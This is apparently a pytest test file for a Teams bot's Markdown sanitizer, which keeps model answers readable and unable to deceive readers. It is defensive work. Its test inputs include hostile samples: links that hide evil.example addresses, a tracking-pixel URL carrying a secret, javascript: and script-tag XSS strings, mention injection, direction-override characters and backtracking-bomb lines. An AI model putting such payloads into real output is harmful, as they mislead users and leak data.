"""The model's Markdown as Teams gets it: readable, and unable to deceive."""

from __future__ import annotations

import re

import pytest

from bot.teams.markdown import FENCE, cost, split, teams_markdown

ZWSP = "\u200b"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("plain **bold** *italics* ~~gone~~", "plain **bold** *italics* ~~gone~~"),
        ("- one\n- two\n\n1. a\n2. b", "- one\n- two\n\n1. a\n2. b"),
        ("> quoted", "> quoted"),
        ("It is ten [1], or so [2].", "It is ten [1], or so [2]."),
        ("# Title", "**Title**"),
        ("### A **bold** title ##", "**A bold title**"),
        ("text\n## Title\nmore", "text\n\n**Title**\n\nmore"),
        ("#", "#"),
        ("#hashtag", "#hashtag"),
        ("Title\n=====\ntext", "Title\n\ntext"),
        ("above\n\n---\n\nbelow", "above\n\n\n\nbelow"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("عربي 🙂", "عربي 🙂"),
        ("", ""),
    ],
)
def test_what_teams_cannot_show_becomes_what_it_can(written: str, shown: str) -> None:
    """Bold, lists, quotes and citation markers stay; headings turn bold, rules vanish."""
    assert teams_markdown(written) == shown


def test_a_table_becomes_preformatted_text() -> None:
    """Teams' messages know no tables."""
    table = "| a | b |\n|---|:-:|\n| 1 | 2 |"
    assert teams_markdown(f"See:\n\n{table}\n\nend") == f"See:\n\n{FENCE}\n{table}\n{FENCE}\n\nend"
    assert teams_markdown(table) == f"{FENCE}\n{table}\n{FENCE}"
    assert teams_markdown("a | b\nno table") == "a | b\nno table"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("[docs](https://a.example/x)", "docs (https://a.example/x)"),
        ("[docs](https://a.example/x_(y))", "docs (https://a.example/x_(y))"),
        ('[docs](https://a.example "title")', "docs (https://a.example)"),
        ("[docs](<https://a.example>)", "docs (https://a.example)"),
        ("[https://good.example](https://evil.example)", "https://good.example (https://evil.example)"),
        ("[https://a.example](https://a.example)", "https://a.example"),
        ("[](https://a.example)", "https://a.example"),
        ("![pixel](https://track.example/?q=secret)", "pixel (https://track.example/?q=secret)"),
        ("[![img](https://i.example)](https://evil.example)", "[img (https://i.example)] (https://evil.example)"),
        ("<https://a.example/?x=1&y=2>", "https://a.example/?x=1&y=2"),
        ("[run](javascript:alert(1))", "run (javascript:alert(1))"),
        ("[1](https://evil.example)", "1 (https://evil.example)"),
    ],
)
def test_links_show_where_they_lead(written: str, shown: str) -> None:
    """An answer must not send people elsewhere than it says."""
    assert teams_markdown(written) == shown


HOSTILE = [
    "[a\nb](https://evil.example)",
    "[a [b]](https://evil.example)",
    "[a](\nhttps://evil.example)",
    "[good][1]\n\n[1]: https://evil.example",
    "[good]\n\n[good]: https://evil.example 'x'",
    "> [good]: https://evil.example",
    "[`code`](https://evil.example)",
    "[a](https://evil.example 'unclosed (title')",
    "` [a](https://evil.example)",
    "`` ` [a](https://evil.example)",
    "[a](" + " " * 9 + "https://evil.example)",
    "\\[a](https://evil.example)",
    "| [a](https://evil.example)",
    "# [a](https://evil.example)",
]


@pytest.mark.parametrize("written", HOSTILE)
def test_no_trick_makes_a_link_with_hidden_address(written: str) -> None:
    """Outside code there is neither `](` nor a definition of a reference."""
    shown = teams_markdown(written)
    assert "](" not in shown
    assert "]:" not in shown
    assert "evil.example" in shown, "nothing is hidden either"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("<b>bold</b>", "&lt;b&gt;bold&lt;/b&gt;"),
        ("<at>Ada</at> come", "&lt;at&gt;Ada&lt;/at&gt; come"),
        ("a < b && c > d", "a &lt; b && c &gt; d"),
        ("&lt;b&gt; &#60;", "&amp;lt;b&amp;gt; &amp;#60;"),
        ("R&D", "R&D"),
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("# <i>x</i>", "**&lt;i&gt;x&lt;/i&gt;**"),
        ("> <i>x</i>", "> &lt;i&gt;x&lt;/i&gt;"),
    ],
)
def test_html_is_text(written: str, shown: str) -> None:
    """It is shown as it was written and means nothing."""
    assert teams_markdown(written) == shown


@pytest.mark.parametrize("written", ["<at>Ada</at>", "`<at>Ada</at>`", "```\n<AT id=1>Ada</at>\n```", "```\n<at>x"])
def test_nobody_is_mentioned(written: str) -> None:
    """Not even in code."""
    assert not re.search(r"</?at\b", teams_markdown(written), re.IGNORECASE)


def test_code_stays_readable() -> None:
    """Angle brackets and addresses in it are what people copy."""
    assert teams_markdown("use `List<T>` and `[a](b)`") == "use `List<T>` and `[a](b)`"
    block = "```python\nif a < b:\n    print('&lt;', \"[x](y)\")\n```"
    assert teams_markdown(block) == block


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("~~~js\nx\n~~~", "```js\nx\n```"),
        ("````\n```\nx\n````", f"```\n{ZWSP}`{ZWSP}`{ZWSP}`\nx\n```"),
        ("1. a\n   ```sh\n   ls\n     -l\n   ```", "1. a\n```sh\nls\n  -l\n```"),
        ("``a ` b``", "`a ' b`"),
        ("lone ` tick", "lone ' tick"),
        ("```js\nunfinished", "```js\nunfinished\n```"),
        ('```x"<b>[a](b)\ncode\n```', "```xbab\ncode\n```"),
    ],
)
def test_code_is_written_again_so_that_every_parser_reads_it_as_code(written: str, shown: str) -> None:
    """Otherwise something could be code for us and a link for Teams."""
    assert teams_markdown(written) == shown


def test_invisible_characters_that_turn_the_writing_are_removed() -> None:
    """`moc.live` must not look like `evil.com`."""
    assert teams_markdown("a\u202eb\u2066c\x00d\x1be") == "abcde"


def test_whatever_is_written_twice_stays_harmless() -> None:
    """The result, taken for new input, opens nothing that had been closed."""
    for written in HOSTILE:
        assert "](" not in teams_markdown(teams_markdown(written))


@pytest.mark.parametrize(
    "line",
    [
        "[" * 9_000,
        "`" * 9_000 + "a",
        "[a](" + " " * 9_000,
        "# a" + " " * 9_000 + "b",
        "[a](b" + "(c)" * 4_000,
        "<" * 9_000,
        "|" + "-|" * 4_000 + "\n|" + "-|" * 4_000 + "x",
        "".join("`" * (i % 50 + 1) + "x" for i in range(600)),
    ],
)
def test_a_hostile_line_costs_no_more_than_a_long_one(line: str) -> None:
    """Backtracking would take hours; a test that ends is the proof."""
    assert teams_markdown(line) is not None


def test_short_text_is_not_split() -> None:
    """Most answers are short."""
    assert split("one\n\ntwo", 1_000) == ["one\n\ntwo"]


@pytest.mark.parametrize(
    "text",
    [
        "\n".join(f"line {n} " + "x" * (n % 50) for n in range(500)),
        "word " * 3_000,
        "x" * 20_000,
        "🙂" * 9_000,
        "é\n" * 5_000,
    ],
)
def test_long_text_is_split_below_the_limit_and_nothing_is_lost(text: str) -> None:
    """Between lines where possible, between words otherwise."""
    parts = split(text, 2_000)
    assert all(0 < cost(part) <= 2_000 for part in parts)
    assert "".join(parts).replace("\n", "") == text.replace("\n", "")


def test_a_code_block_that_is_split_is_code_in_every_part() -> None:
    """It is closed at the end of one part and opened again in the next."""
    code = [f"line {n}" for n in range(200)]
    parts = split("\n".join(["before", "```python", *code, "```", "after"]), 1_000)
    assert len(parts) > 2
    lines = [line for part in parts for line in part.split("\n")]
    assert [line for line in lines if not line.startswith(FENCE)] == ["before", *code, "after"]
    assert all(part.count(FENCE) % 2 == 0 for part in parts)
    assert all(cost(part) <= 1_000 for part in parts)
    assert all(part.startswith("```python\n") for part in parts[1:])
